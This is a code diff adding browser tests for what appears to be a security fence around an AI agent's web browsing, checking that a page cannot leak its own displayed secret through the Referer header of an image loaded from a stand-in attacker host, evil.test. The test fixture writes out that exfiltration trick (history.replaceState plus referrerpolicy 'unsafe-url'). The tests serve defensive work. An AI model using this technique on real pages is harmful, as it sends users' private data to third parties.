@@ -130,3 +130,36 @@ test('open-web reading: ordinary GETs pass, exfiltration-shaped URLs and writes 
   const exfilNav = await gotoEvil(browser, server, `/nav?d=${token}`);
   await expect(exfilNav).toHaveURL(/blocked\.html\?check=exfiltration_url/);
 });
+
+/**
+ * A page writes what it shows into its own URL (`history.replaceState`, no request) and asks for the whole
+ * URL as the referrer of a dependency from a site the task does not name: the image's URL is clean, so the
+ * dependency rules and the taint let it load, and its `Referer` carried the page's data. The floor removes
+ * the header for sites the task does not name; the task's own site still gets it.
+ */
+async function refererLeak(browser: AgentBrowser, server: TestServer): Promise<(string | undefined)[]> {
+  server.setPage('/account', '<!doctype html><title>account</title><p>Your code: 482913</p>');
+  const page = await browser.context.newPage();
+  await page.goto(`${server.origin('app.test')}/account`);
+  await page.evaluate((evil) => {
+    history.replaceState(null, '', `/account?d=${encodeURIComponent(document.body.innerText)}`);
+    document.body.insertAdjacentHTML('beforeend', `<img referrerpolicy="unsafe-url" src="${evil}/pixel/r.gif"><img referrerpolicy="unsafe-url" src="/pixel/own.gif">`);
+  }, server.origin('evil.test'));
+  await server.waitFor('/pixel/r.gif', 'evil.test').catch(() => undefined);
+  await server.waitFor('/pixel/own.gif', 'app.test');
+  await quiet(page, 300);
+  return [...server.hits('/pixel/r.gif', 'evil.test'), ...server.hits('/pixel/own.gif', 'app.test')].map((r) => `${r.host} ${r.referer ?? 'no referer'}`);
+}
+
+test('the floor alone: an allowed dependency from an unnamed site carries no Referer, so not the data a page put in its own URL', async ({ launchFence, server }) => {
+  const browser = await launchFence({ mainHooks: false });
+  await browser.setPolicy(readOnly);
+  const own = `http://app.test:${server.port}/account?d=Your%20code%3A%20482913`;
+  expect(await refererLeak(browser, server)).toEqual(['evil.test no referer', `app.test ${own}`]);
+});
+
+test('negative control: without the extension the Referer carries the code to evil.test', async ({ launchFence, server }) => {
+  const browser = await launchFence({ extension: false });
+  const [evil] = await refererLeak(browser, server);
+  expect(evil).toContain('482913');
+});
